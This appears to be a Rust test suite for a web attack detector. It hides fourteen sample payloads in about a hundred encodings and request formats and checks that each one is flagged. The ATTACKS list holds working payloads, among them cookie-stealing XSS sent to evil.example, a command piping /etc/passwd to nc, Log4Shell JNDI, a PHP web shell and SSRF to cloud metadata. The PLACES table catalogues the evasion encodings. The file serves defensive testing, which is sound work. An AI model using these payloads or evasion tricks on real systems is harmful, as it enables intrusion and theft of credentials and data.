//! An attack is found wherever it hides: each canonical attack in each hiding place, with its class and the right point.

use sidewatch::http::{Messages, Version};
use sidewatch::{Engine, Transaction};
use std::fmt::Write as _;
use std::io::Write as _;

/// Class and payload. Their own words; what each does is in the doc of its detector.
const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "7' UNION SELECT login, pin FROM staff-- -"),
    ("sqli", "x'; DROP TABLE bookings; -- "),
    ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
    ("xss", "\"><script>top.location='//evil.example/'+document.cookie</script>"),
    ("rce", "; cat /etc/passwd | nc 198.51.100.7 4444"),
    ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
    ("rce", "<?php system($_GET['run']); ?>"),
    ("ptrav", "../../../../../../etc/shadow"),
    ("ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>"),
    ("ldapi", "*)(uid=*))(|(uid=*"),
    ("ssi", "<!--#exec cmd=\"id\"-->"),
    ("nosqli", "kim'; db.members.drop(); var t='"),
];

/// A request that hides a payload.
#[derive(Default)]
struct Hidden {
    target: String,
    fields: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

fn get(target: String) -> Hidden {
    Hidden { target, ..Hidden::default() }
}

fn field(name: &'static str, value: String) -> Hidden {
    Hidden { target: "/a".into(), fields: vec![(name, value)], body: Vec::new() }
}

fn post(content_type: &str, body: impl Into<Vec<u8>>) -> Hidden {
    let fields = if content_type.is_empty() { vec![] } else { vec![("Content-Type", content_type.into())] };
    Hidden { target: "/a".into(), fields, body: body.into() }
}

fn base64(text: &[u8], url: bool, padding: bool) -> String {
    let sign = |n: u32| match n & 63 {
        n @ 0..26 => b'A' + n as u8,
        n @ 26..52 => b'a' + n as u8 - 26,
        n @ 52..62 => b'0' + n as u8 - 52,
        62 => {
            if url {
                b'-'
            } else {
                b'+'
            }
        }
        _ => {
            if url {
                b'_'
            } else {
                b'/'
            }
        }
    };
    let mut out = String::new();
    for group in text.chunks(3) {
        let bits = group.iter().fold(0u32, |bits, &b| bits << 8 | u32::from(b)) << (8 * (3 - group.len()));
        out.extend((0..=group.len()).map(|i| char::from(sign(bits >> (18 - 6 * i)))));
    }
    while padding && !out.len().is_multiple_of(4) {
        out.push('=');
    }
    out
}

fn b64(text: &str) -> String {
    base64(text.as_bytes(), false, true)
}

fn each(text: &str, form: impl Fn(u8) -> String) -> String {
    text.bytes().fold(String::new(), |mut out, b| {
        _ = write!(out, "{}", form(b));
        out
    })
}

/// What browsers escape in a query.
fn percent(text: &str) -> String {
    each(text, |b| if b.is_ascii_alphanumeric() { char::from(b).into() } else { format!("%{b:02x}") })
}

fn every_percent(text: &str) -> String {
    each(text, |b| format!("%{b:02X}"))
}

fn json(text: &str) -> String {
    text.replace('\\', "\\\\").replace('"', "\\\"").replace('/', "\\/")
}

fn xml(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&apos;")
}

fn multipart(name: &str, extra: &str, content: &str) -> Hidden {
    let body = format!(
        "--bd\r\nContent-Disposition: form-data; name=\"{name}\"\r\n{extra}\r\n{content}\r\n--bd--\r\n"
    );
    post("multipart/form-data; boundary=bd", body)
}

fn utf16(text: &str, big: bool) -> Vec<u8> {
    text.encode_utf16().flat_map(|u| if big { u.to_be_bytes() } else { u.to_le_bytes() }).collect()
}

/// UTF-7 (RFC 2152), every sign but letters and digits in base64.
fn utf7(text: &str) -> String {
    each(text, |b| match b {
        b'0'..=b'9' | b'A'..=b'Z' | b'a'..=b'z' | b' ' => char::from(b).into(),
        _ => format!("+{}-", base64(&[0, b], false, false)),
    })
}

/// IBM code page 037.
fn ebcdic(text: &str) -> Vec<u8> {
    const ASCII: &[u8] =
        b" .<(+|&!$*);-/,%_>?`:#@'=\"abcdefghijklmnopqr~stuvwxyz^[]{ABCDEFGHI}JKLMNOPQR\\STUVWXYZ0123456789";
    const CODES: &[u8] = b"\x40\x4b\x4c\x4d\x4e\x4f\x50\x5a\x5b\x5c\x5d\x5e\x60\x61\x6b\x6c\x6d\x6e\x6f\x79\x7a\x7b\x7c\x7d\x7e\x7f\x81\x82\x83\x84\x85\x86\x87\x88\x89\x91\x92\x93\x94\x95\x96\x97\x98\x99\xa1\xa2\xa3\xa4\xa5\xa6\xa7\xa8\xa9\xb0\xba\xbb\xc0\xc1\xc2\xc3\xc4\xc5\xc6\xc7\xc8\xc9\xd0\xd1\xd2\xd3\xd4\xd5\xd6\xd7\xd8\xd9\xe0\xe2\xe3\xe4\xe5\xe6\xe7\xe8\xe9\xf0\xf1\xf2\xf3\xf4\xf5\xf6\xf7\xf8\xf9";
    text.bytes().map(|b| CODES[ASCII.iter().position(|&a| a == b).expect("in the page")]).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(bytes).expect("to memory");
    out.finish().expect("to memory")
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).expect("to memory");
    out.finish().expect("to memory")
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(bytes).expect("to memory");
    out.finish().expect("to memory")
}

/// A field of a protobuf message that holds bytes.
fn proto(number: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![number << 3 | 2];
    let mut left = content.len();
    while left >= 0x80 {
        out.push(left as u8 | 0x80);
        left >>= 7;
    }
    out.push(left as u8);
    out.extend_from_slice(content);
    out
}

/// A message with a number, and the payload in field 1 of field 2.
fn message(payload: &str) -> Vec<u8> {
    [&b"\x08\x96\x01"[..], &proto(2, &proto(1, payload.as_bytes())), &b"\x1d\x00\x00\x80\x3f"[..]].concat()
}

fn frame(flag: u8, message: &[u8]) -> Vec<u8> {
    [&[flag], &(message.len() as u32).to_be_bytes()[..], message].concat()
}

/// `{"id": 7, "list": [true, payload]}`
fn msgpack(payload: &str) -> Vec<u8> {
    let len = payload.len() as u8;
    [b"\x82\xa2id\x07\xa4list\x92\xc3\xd9", &[len][..], payload.as_bytes()].concat()
}

/// `{"id": 7, "list": [true, payload]}`
fn cbor(payload: &str) -> Vec<u8> {
    let len = payload.len() as u8;
    [b"\xa2\x62id\x07\x64list\x82\xf5\x78", &[len][..], payload.as_bytes()].concat()
}

type Hide = fn(&str) -> Hidden;

/// Every hiding place: its name, the point that must be named, what it makes of a payload, and the classes that mean
/// nothing there.
#[rustfmt::skip]
const PLACES: &[(&str, &str, Hide, &[&str])] = &[
    ("a query's value", "query.q", |p| get(format!("/a?q={}", percent(p))), &[]),
    ("all of it percent-encoded", "query.q", |p| get(format!("/a?q={}", every_percent(p))), &[]),
    ("percent-encoded twice", "query.q", |p| get(format!("/a?q={}", every_percent(&every_percent(p)))), &[]),
    ("a query's name", "#name", |p| get(format!("/a?{}=1", percent(p))), &["ssrf", "nosqli"]),
    ("base64 in a query", "query.q|base64", |p| get(format!("/a?q={}", percent(&b64(p)))), &[]),
    ("base64 as it is in a query", "query.q|base64", |p| get(format!("/a?q={}", b64(p))), &[]),
    ("base64url without padding", "query.q|base64", |p| get(format!("/a?q={}", base64(p.as_bytes(), true, false))), &[]),
    ("base64 in base64", "query.q|base64|base64", |p| get(format!("/a?q={}", percent(&b64(&b64(p))))), &[]),
    ("base64 in a data: URL", "query.q|base64", |p| get(format!("/a?q=data:;base64,{}", percent(&b64(p)))), &[]),
    ("base64 behind a version", "query.q|base64", |p| get(format!("/a?q=v1.{}", percent(&b64(p)))), &[]),
    ("base64 behind three letters", "query.q|base64", |p| get(format!("/a?q=abc{}", percent(&b64(p)))), &[]),
    ("base64 behind one letter", "query.q|base64", |p| get(format!("/a?q=x{}", base64(p.as_bytes(), false, false))), &[]),
    ("base64 of gzip", "query.q|base64|inflate", |p| get(format!("/a?q={}", percent(&base64(&gzip(p.as_bytes()), false, true)))), &[]),
    ("hexadecimal", "query.q|hex", |p| get(format!("/a?q=0x{}", each(p, |b| format!("{b:02x}")))), &[]),
    ("HTML references in a query", "query.q", |p| get(format!("/a?q={}", percent(&each(p, |b| format!("&#x{b:x};"))))), &[]),
    ("UTF-7 in a query", "query.q", |p| get(format!("/a?q={}", percent(&utf7(p)))), &["ptrav", "ssrf"]),
    ("a segment of the path", "path", |p| get(format!("/shop/{}", every_percent(p))), &["ssrf"]),
    ("a list of a query", "query.f[a][]", |p| get(format!("/a?f[a][]={}", percent(p))), &[]),
    ("a query in a query", "query.u", |p| get(format!("/a?u={}", percent(&format!("/b?x=1&y={}", percent(p))))), &["ssrf"]),
    ("a header field, percent-encoded", "header.x-data", |p| field("X-Data", every_percent(p)), &["nosqli"]),
    ("a header field in base64", "header.x-data|base64", |p| field("X-Data", b64(p)), &["nosqli"]),
    ("a cookie, percent-encoded", "cookie.c", |p| field("Cookie", format!("a=1; c={}", every_percent(p))), &[]),
    ("a cookie in base64", "cookie.c|base64", |p| field("Cookie", format!("a=1; c={}", b64(p))), &[]),
    ("a cookie of JSON", "cookie.c|percent|json.d", |p| field("Cookie", format!("c={}", percent(&format!("{{\"d\":\"{}\"}}", json(p))))), &[]),
    ("a form", "body.form.q", |p| post("application/x-www-form-urlencoded", format!("a=1&q={}", percent(p))), &[]),
    ("a name of a form", "#name", |p| post("application/x-www-form-urlencoded", format!("a=1&{}=1", percent(p))), &["ssrf", "nosqli"]),
    ("base64 in a form", "body.form.q|base64", |p| post("application/x-www-form-urlencoded", format!("a=1&q={}", percent(&b64(p)))), &[]),
    ("base64 with line breaks in a form", "body.form.q|base64", |p| {
        let lines: Vec<_> = b64(p).as_bytes().chunks(16).map(|l| String::from_utf8_lossy(l).into_owned()).collect();
        post("application/x-www-form-urlencoded", format!("q={}", percent(&lines.join("\r\n"))))
    }, &[]),
    ("JSON", "body.json.a.q", |p| post("application/json", format!("{{\"a\":{{\"q\":\"{}\"}}}}", json(p))), &[]),
    ("a key of JSON", "#name", |p| post("application/json", format!("{{\"{}\":1}}", json(p))), &["ssrf", "nosqli"]),
    ("\\u escapes in JSON", "body.json.q", |p| post("application/json", format!("{{\"q\":\"{}\"}}", each(p, |b| format!("\\u{b:04x}")))), &[]),
    ("\\u escapes in a query", "query.q|escapes", |p| get(format!("/a?q={}", percent(&each(p, |b| format!("\\u{b:04x}"))))), &[]),
    ("percent-encoded in JSON", "body.json.q", |p| post("application/json", format!("{{\"q\":\"{}\"}}", every_percent(p))), &[]),
    ("base64 in JSON", "body.json.q|base64", |p| post("application/json", format!("{{\"q\":\"{}\"}}", json(&b64(p)))), &[]),
    ("JSON in a string of JSON", "body.json.q|json.r", |p| post("application/json", format!("{{\"q\":\"{}\"}}", json(&format!("{{\"r\":\"{}\"}}", json(p))))), &[]),
    ("JSON in base64", "query.q|base64|json.r", |p| get(format!("/a?q={}", percent(&b64(&format!("{{\"r\":\"{}\"}}", json(p)))))), &[]),
    ("a line of JSON lines", "body.json.q", |p| post("application/x-ndjson", format!("{{\"a\":1}}\n{{\"q\":\"{}\"}}\n", json(p))), &[]),
    ("JSON-RPC", "body.json[0].params[1]", |p| post("application/json-rpc", format!("[{{\"jsonrpc\":\"2.0\",\"method\":\"m\",\"id\":1,\"params\":[1,\"{}\"]}}]", json(p))), &[]),
    ("a field of multipart", "body.multipart.q", |p| multipart("q", "", p), &[]),
    ("multipart, percent-encoded", "body.multipart.q", |p| multipart("q", "", &every_percent(p)), &[]),
    ("multipart in base64", "body.multipart.q|base64", |p| multipart("q", "Content-Transfer-Encoding: base64\r\n", &b64(p)), &[]),
    ("multipart in base64 that nobody tells", "body.multipart.q|base64", |p| multipart("q", "", &b64(p)), &[]),
    ("multipart with JSON in a field", "body.multipart.q|json.r", |p| multipart("q", "Content-Type: application/json\r\n", &format!("{{\"r\":\"{}\"}}", json(p))), &[]),
    ("multipart with XML in a field", "body.multipart.q|xml.a.r", |p| multipart("q", "", &format!("<?xml version='1.0'?><a><r>{}</r></a>", each(p, |b| format!("&#{b};")))), &[]),
    ("a header field of multipart", "body.multipart.q.x-note", |p| multipart("q", &format!("X-Note: {p}\r\n"), "1"), &["nosqli"]),
    ("text of XML", "body.xml.a.q", |p| post("text/xml", format!("<?xml version='1.0'?><a><q>{}</q></a>", xml(p))), &[]),
    ("CDATA of XML", "body.xml.a.q", |p| post("text/xml", format!("<?xml version='1.0'?><a><q><![CDATA[{p}]]></q></a>")), &[]),
    ("an attribute of XML", "body.xml.a@q", |p| post("text/xml", format!("<?xml version='1.0'?><a q=\"{}\"/>", xml(p))), &[]),
    ("base64 in XML", "body.xml.a.q|base64", |p| post("text/xml", format!("<?xml version='1.0'?><a><q>{}</q></a>", b64(p))), &[]),
    ("percent-encoded in XML", "body.xml.a.q", |p| post("text/xml", format!("<?xml version='1.0'?><a><q>{}</q></a>", every_percent(p))), &[]),
    ("SOAP", "body.xml.s:Envelope.s:Body.q", |p| post("application/soap+xml", format!("<s:Envelope xmlns:s='http://www.w3.org/2003/05/soap-envelope'><s:Body><q>{}</q></s:Body></s:Envelope>", xml(p))), &[]),
    ("a form without a type", "body.form.q", |p| post("", format!("a=1&q={}", percent(p))), &[]),
    ("JSON without a type", "body.json.q", |p| post("", format!("{{\"q\":\"{}\"}}", json(p))), &[]),
    ("XML without a type", "body.xml.a.q", |p| post("", format!("<?xml version='1.0'?><a><q>{}</q></a>", xml(p))), &[]),
    ("base64 without a type", "body.text|base64", |p| post("", base64(p.as_bytes(), false, false)), &["nosqli"]),
    ("text without a type", "body.", |p| post("", format!("note {p}")), &["xxe", "ssrf", "nosqli"]),
    ("multipart without a type", "body.multipart.q", |p| Hidden { fields: vec![], ..multipart("q", "", p) }, &[]),
    ("JSON said to be a form", "body.json.q", |p| post("application/x-www-form-urlencoded", format!("{{\"q\":\"{}\"}}", json(p))), &[]),
    ("JSON said to be text", "body.json.q", |p| post("text/plain", format!("{{\"q\":\"{}\"}}", json(p))), &[]),
    ("JSON said to be a picture", "body.json.q", |p| post("image/png", format!("{{\"q\":\"{}\"}}", json(p))), &[]),
    ("a form said to be JSON", "body.form.q", |p| post("application/json", format!("q={}", percent(p))), &[]),
    ("a form said to be XML", "body.form.q", |p| post("text/xml", format!("q={}", percent(p))), &[]),
    ("XML said to be JSON", "body.xml.a.q", |p| post("application/json", format!("<?xml version='1.0'?><a><q>{}</q></a>", xml(p))), &[]),
    ("multipart said to be a form", "body.multipart.q", |p| Hidden { fields: vec![("Content-Type", "application/x-www-form-urlencoded".into())], ..multipart("q", "", p) }, &[]),
    ("UTF-16 without a mark", "body.json.q", |p| post("application/json", utf16(&format!("{{\"q\":\"{}\"}}", json(p)), false)), &[]),
    ("UTF-16, big end first", "body.form.q", |p| post("application/x-www-form-urlencoded", utf16(&format!("q={}", percent(p)), true)), &[]),
    ("UTF-7 by name", "body.form.q", |p| post("application/x-www-form-urlencoded; charset=utf-7", format!("q={}", utf7(p).replace(' ', "%20"))), &[]),
    ("EBCDIC by name", "body.form.q", |p| post("application/x-www-form-urlencoded; charset=ibm037", ebcdic(&format!("q={}", percent(p)))), &[]),
    ("gzip that nobody tells", "body.form.q", |p| post("application/x-www-form-urlencoded", gzip(format!("q={}", percent(p)).as_bytes())), &[]),
    ("zlib that nobody tells", "body.json.q", |p| post("application/json", zlib(format!("{{\"q\":\"{}\"}}", json(p)).as_bytes())), &[]),
    ("gzip under another name", "body.form.q", |p| {
        let mut hidden = post("application/x-www-form-urlencoded", gzip(format!("q={}", percent(p)).as_bytes()));
        hidden.fields.push(("Content-Encoding", "x-own".into()));
        hidden
    }, &[]),
    ("a value cut over a query", "query.q", |p| {
        let (a, b) = p.split_at(p.len() / 2);
        get(format!("/a?q={}&z=1&q={}", percent(a), percent(b)))
    }, &[]),
    ("a value cut over a form", "body.form.q", |p| {
        let (a, b) = p.split_at(p.len() / 2);
        post("application/x-www-form-urlencoded", format!("q={}&z=1&q={}", percent(a), percent(b)))
    }, &[]),
    ("a value cut over a list", "query.q", |p| {
        let (a, b) = p.split_at(p.len() / 2);
        get(format!("/a?q[0]={}&q[1]={}", percent(a), percent(b)))
    }, &[]),
    ("a value cut over multipart", "body.multipart.q", |p| {
        let (a, b) = p.split_at(p.len() / 2);
        let part = |c| format!("--bd\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{c}\r\n");
        post("multipart/form-data; boundary=bd", format!("{}{}--bd--\r\n", part(a), part(b)))
    }, &[]),
    ("an element of a PHP array", "query.q", |p| get(format!("/a?q={}", percent(&format!("a:2:{{s:1:\"i\";i:7;s:1:\"q\";s:{}:\"{p}\";}}", p.len())))), &[]),
    ("a string of a Java stream in base64", "query.q|base64", |p| get(format!("/a?q={}", percent(&base64(&[b"\xac\xed\x00\x05t\x00", &[p.len() as u8][..], p.as_bytes()].concat(), false, true)))), &["xxe"]),
    ("a string of a view state", "query.__VIEWSTATE|base64", |p| get(format!("/a?__VIEWSTATE={}", percent(&base64(&[b"\xff\x01\x0f\x0f\x05\x0a-123456789\x64\x05", &[p.len() as u8][..], p.as_bytes(), b"\x64\x64"].concat(), false, true)))), &["xxe"]),
    ("a form in a string of JSON", "body.json.q", |p| post("application/json", format!("{{\"q\":\"a=1&b={}\"}}", percent(p))), &[]),
    ("XML in a string of JSON", "body.json.q", |p| post("application/json", format!("{{\"q\":\"{}\"}}", json(&format!("<r><v>{}</v></r>", xml(p))))), &["ssrf"]),
    ("HTML references in JSON", "body.json.q|html", |p| post("application/json", format!("{{\"q\":\"{}\"}}", each(p, |b| format!("&#{b};")))), &[]),
    ("JSON in base64 as text", "body.text|base64|json.q", |p| post("text/plain", b64(&format!("{{\"q\":\"{}\"}}", json(p)))), &[]),
    ("a session of zlib in base64url", "cookie.session|", |p| field("Cookie", format!("session=.{}.ZkX9aw.c2lnbmF0dXJl", base64(&zlib(format!("{{\"q\":\"{}\"}}", json(p)).as_bytes()), true, false))), &[]),
    ("the credentials of Basic", "header.authorization|base64", |p| field("Authorization", format!("Basic {}", b64(&format!("ann:{p}")))), &["xxe", "ssrf", "nosqli", "ldapi"]),
    ("a parameter of the path", "path", |p| get(format!("/shop;v={}/b", every_percent(p))), &["ssrf"]),
    ("a pair behind a semicolon", "query.", |p| get(format!("/a?a=1;q={}", percent(p))), &[]),
    ("full-width forms in JSON", "body.json.q", |p| post("application/json", format!("{{\"q\":\"{}\"}}", p.chars().map(|c| if c > ' ' { char::from_u32(c as u32 + 0xfee0).expect("a form") } else { c }).collect::<String>())), &[]),
    ("JSON behind a byte order mark", "body.json.q", |p| post("application/json", format!("\u{feff}{{\"q\":\"{}\"}}", json(p))), &[]),
    ("JSON behind a guard", "body.", |p| post("application/json", format!(")]}}',\n{{\"q\":\"{}\"}}", json(p))), &["xxe", "ssrf", "nosqli", "ldapi"]),
    ("JSON with a comment", "body.json.q", |p| post("application/json", format!("{{/* a */'q':\"{}\",}}", json(p))), &[]),
    ("JSON with bare keys in a query", "query.q", |p| get(format!("/a?q={}", percent(&format!("{{a:1,b:\"{}\"}}", json(p))))), &["xxe", "ssrf"]),
    ("a multipart body inside another", "body.multipart.o.q", |p| post("multipart/form-data; boundary=bd", format!("--bd\r\nContent-Disposition: form-data; name=\"o\"\r\nContent-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{p}\r\n--in--\r\n--bd--\r\n")), &[]),
    ("quoted-printable in multipart", "body.multipart.q|quoted-printable", |p| multipart("q", "Content-Transfer-Encoding: quoted-printable\r\n", &each(p, |b| format!("={b:02X}"))), &[]),
    ("a part in UTF-16", "body.multipart.q|utf-16", |p| {
        let wide = utf16(p, false);
        let head = b"--bd\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\n";
        post("multipart/form-data; boundary=bd", [&head[..], &wide, b"\r\n--bd--\r\n"].concat())
    }, &[]),
    ("a message of SAML in a query", "query.SAMLRequest|saml", |p| {
        let message = format!("<samlp:AuthnRequest ID='a'><q>{}</q></samlp:AuthnRequest>", xml(p));
        get(format!("/a?SAMLRequest={}", percent(&base64(&deflate(message.as_bytes()), false, true))))
    }, &["ssrf", "nosqli", "ldapi"]),
    ("hexadecimal of UTF-16", "query.q|hex", |p| get(format!("/a?q=0x{}", each(p, |b| format!("{b:02x}00")))), &[]),
    ("a value of a data: URL in JSON", "body.json.q|base64", |p| post("application/json", format!("{{\"q\":\"data:text/plain;charset=utf-8;base64,{}\"}}", json(&b64(p)))), &[]),
    ("base64 between other words", "query.q|base64", |p| get(format!("/a?q={}", percent(&format!("token: {} (new)", b64(p))))), &[]),
    ("base64 in a JSON cookie", "cookie.c|percent|json.d|base64", |p| field("Cookie", format!("c={}", percent(&format!("{{\"d\":\"{}\"}}", json(&b64(p)))))), &[]),
    ("a form in base64", "query.q|base64|form.b", |p| get(format!("/a?q={}", percent(&b64(&format!("a=1&b={}", percent(p)))))), &[]),
    ("gRPC", "body.grpc[0].2.1", |p| post("application/grpc", frame(0, &message(p))), &[]),
    ("gRPC, compressed", "body.grpc[1].2.1", |p| {
        let first = frame(0, &proto(1, b"hello"));
        post("application/grpc+proto", [first, frame(1, &gzip(&message(p)))].concat())
    }, &[]),
    ("gRPC-Web in text", "body.grpc[0].2.1", |p| post("application/grpc-web-text", base64(&frame(0, &message(p)), false, true)), &[]),
    ("protobuf", "body.protobuf.2.1", |p| post("application/x-protobuf", message(p)), &[]),
    ("MessagePack", "body.msgpack.list[1]", |p| post("application/msgpack", msgpack(p)), &[]),
    ("CBOR", "body.cbor.list[1]", |p| post("application/cbor", cbor(p)), &[]),
];

fn send(transaction: &mut Transaction, hidden: &Hidden, piece: usize) {
    transaction.reset();
    let method: &[u8] = if hidden.body.is_empty() { b"GET" } else { b"POST" };
    transaction.request_line(method, hidden.target.as_bytes(), Version::Http11);
    transaction.request_header(b"Host", b"shop.example");
    hidden
        .fields
        .iter()
        .for_each(|(name, value)| transaction.request_header(name.as_bytes(), value.as_bytes()));
    transaction.request_head_end();
    hidden.body.chunks(piece).for_each(|piece| transaction.request_body(piece));
    transaction.request_end();
}

fn told(transaction: &Transaction) -> Vec<String> {
    let findings = transaction.findings().iter();
    findings
        .map(|f| format!("{} {} {} {} {}", f.class.name(), f.technique, f.confidence, f.point, f.offset))
        .collect()
}

#[test]
fn an_attack_is_found_wherever_it_hides() {
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    for (name, point, hide, void) in PLACES {
        for (class, payload) in ATTACKS.iter().filter(|(class, _)| !void.contains(class)) {
            let hidden = hide(payload);
            send(&mut transaction, &hidden, usize::MAX);
            let is = |f: &&sidewatch::Finding| {
                f.class.name() == *class && f.confidence >= 50 && f.point.contains(point)
            };
            let whole = told(&transaction);
            if !transaction.findings().iter().any(|f| is(&f)) {
                wrong.push(format!(
                    "{name}: {class} {payload}: {whole:?} {:?}",
                    transaction.anomalies().iter().map(|a| a.name()).collect::<Vec<_>>()
                ));
            }
            send(&mut transaction, &hidden, 1);
            assert_eq!(told(&transaction), whole, "{name}: {payload}: byte by byte");
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// What people and programs write.
const ORDINARY: &[&str] = &[
    "O'Brien & Sons, Ltd. (since 1984)",
    "Please select a size or a colour, then order by noon",
    "see https://shop.example/list?page=2&sort=price for more",
    "weight < 30 kg and height > 20 cm",
    "He said \"it's fine\" and left -- Kim",
    "50% off + 10$ cash back; today only!",
    "Zm9v, YmFy and other short words",
    "3f2b8c4e-91aa-4c1e-a7f0-2d9b66c01e57",
    "function, table, union and drop are words as well",
];

#[test]
fn ordinary_text_raises_nothing_in_the_same_places() {
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    // A stream of Java objects is an attack whatever it holds; nobody sends half a sentence.
    for (name, _, hide, _) in PLACES.iter().filter(|p| !p.0.contains("Java") && !p.0.contains(" cut ")) {
        for text in ORDINARY {
            send(&mut transaction, &hide(text), usize::MAX);
            if transaction.verdict() == sidewatch::Verdict::Attack {
                wrong.push(format!("{name}: {text}: {:?}", told(&transaction)));
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn bytes_without_meaning_raise_nothing() {
    let mut transaction = Engine::default().transaction();
    let mut seed = 7u64;
    let mut byte = || {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 56) as u8
    };
    let types = ["grpc", "grpc-web-text", "x-protobuf", "msgpack", "cbor"];
    for kind in types {
        for round in 0..40 {
            let mut body: Vec<u8> = (0..500 << (round % 6)).map(|_| byte()).collect();
            match round % 4 {
                0 => body = frame(0, &body),
                1 => body = proto(3, &body[..100]),
                2 => body = [&b"\x82\xa2id\xc5\x01\xf4"[..], &body].concat(),
                _ => {}
            }
            send(&mut transaction, &post(&format!("application/{kind}"), body), usize::MAX);
            assert!(transaction.verdict() != sidewatch::Verdict::Attack, "{kind}: {:?}", told(&transaction));
        }
    }
}
